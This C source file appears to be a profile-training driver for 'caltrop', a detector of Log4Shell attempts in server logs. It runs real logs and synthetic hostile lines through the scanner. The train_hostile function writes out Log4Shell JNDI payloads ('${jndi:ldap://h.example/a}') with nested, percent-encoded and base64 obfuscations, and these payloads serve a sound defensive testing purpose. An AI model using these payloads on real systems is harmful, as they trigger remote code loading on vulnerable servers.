/* What the compiler learns from how often each branch of the verdict is taken: log lines on the way that `caltrop detect` takes them
 * on, from a block of bytes to findings and their campaigns. cmake/Profile.cmake builds and runs it.
 *
 *   train LOG...     exit status: 0, 1 a log that cannot be read, 4 no memory
 */
#include "base/limits.h"
#include "campaign/campaign.h"
#include "event/attempt.h"
#include "pipeline/scan.h"

#include <stdio.h>
#include <string.h>

enum { BLOCK = 256 * 1024 };

struct trainee {
    ct_scanner *scanner;
    ct_campaigns *campaigns;
    ct_arena *scratch;
    unsigned char bytes[BLOCK];
};

static ct_err settle(struct trainee *t, const struct ct_finding *f)
{
    struct ct_buf event;
    ct_arena_clear(t->scratch);
    ct_buf_init(&event, t->scratch, 1u << 20);
    ct_attempt_ecs(&event, &f->attempt);
    struct ct_campaign_hit hit = {.key = f->attempt.campaign, .client = f->attempt.client, .normal = f->attempt.normal,
                                  .time_us = f->attempt.time_us, .grade = (unsigned)f->grade};
    return ct_campaigns_add(t->campaigns, &hit, NULL, NULL);
}

static ct_err judge(struct trainee *t, struct ct_format_state *state, const struct ct_block *block)
{
    struct ct_block_result result;
    for (size_t at = 0; at < block->bytes.n; at = result.next) {
        CT_TRY(ct_scanner_block(t->scanner, state, block, at, &result));
        for (const struct ct_finding *f = result.first; f; f = f->next) CT_TRY(settle(t, f));
        ct_scanner_forget(t->scanner);
    }
    return CT_OK;
}

/* In blocks of whole lines, of a source that has the same name wherever it lies: events hold it. */
static ct_err train(struct trainee *t, FILE *log)
{
    struct ct_format_state state = {0};
    struct ct_tally tally = {0};
    bool stateful = false, first = true;
    size_t n = 0;
    for (size_t got; (got = fread(t->bytes + n, 1, BLOCK - n, log)) > 0;) {
        n += got;
        size_t whole = ct_str_rchr((ct_str){t->bytes, n}, '\n') + 1;
        struct ct_block block = {.source = CT_STR_INIT("log"), .bytes = {t->bytes, whole}};
        if (first) CT_TRY(ct_scanner_sample(t->scanner, &state, block.bytes, 100, &tally, &stateful));
        first = false;
        CT_TRY(judge(t, stateful ? &state : NULL, &block));
        memmove(t->bytes, t->bytes + whole, n -= whole);
    }
    return CT_OK;
}

static size_t put(struct trainee *t, size_t n, const char *text)
{
    size_t more = strlen(text);
    memcpy(t->bytes + n, text, more);
    return n + more;
}

/* Lines made to cost much: loops that others take once or twice are long there. */
static ct_err train_hostile(struct trainee *t)
{
    static const char *const heads[] = {"1.2.3.4 - - [10/Dec/2021:14:00:00 +0000] \"GET /?q=", "{\"a\":\"", "Dec 10 14:00:00 h postfix/cleanup[1]: 4B1: "};
    static const char *const units[] = {"$", "{", "}", "%25", "%24%7B", "&#36;", "&amp;", "\\u0024", "\\x7b", "\\\"", "${", "${a}", "${::-a}", "${a:-${b}}",
                                        "${lower:", "${env:&#\\\"", "JHtqbmRpOg", "ICAgICAgICAgICAgICAgICA+", "=24", "a", " "};
    enum { HEADS = sizeof heads / sizeof *heads, UNITS = sizeof units / sizeof *units, LONG = 16 * 1024 };
    for (size_t i = 0; i < HEADS * UNITS; i++) {
        size_t n = put(t, 0, heads[i / UNITS]);
        while (n < LONG) n = put(t, n, units[i % UNITS]);
        n = put(t, n, "${jndi:ldap://h.example/a}\" 200 1 \"-\" \"-\"\n");
        struct ct_block block = {.source = CT_STR_INIT("log"), .bytes = {t->bytes, n}};
        CT_TRY(judge(t, NULL, &block));
    }
    return CT_OK;
}

int main(int argc, char **argv)
{
    static struct trainee t;
    const struct ct_scan_opts opts = {.min_grade = CT_GRADE_LEAK, .since_us = CT_TIME_NONE, .until_us = CT_TIME_NONE, .masked = true, .year = 2021};
    if (ct_arena_new(&ct_alloc_libc, 32u << 20, &t.scratch) != CT_OK || ct_campaigns_new(&ct_alloc_libc, 10000, &t.campaigns) != CT_OK ||
        ct_scanner_new(&ct_alloc_libc, &opts, &t.scanner) != CT_OK)
        return 4;
    for (int i = 1; i < argc; i++) {
        FILE *log = fopen(argv[i], "rb");
        if (!log) {
            perror(argv[i]);
            return 1;
        }
        ct_err e = train(&t, log);
        (void)fclose(log);
        if (e != CT_OK) return 4;
    }
    if (train_hostile(&t) != CT_OK) return 4;
    ct_scanner_free(t.scanner);
    ct_campaigns_free(t.campaigns);
    ct_arena_free(t.scratch);
}
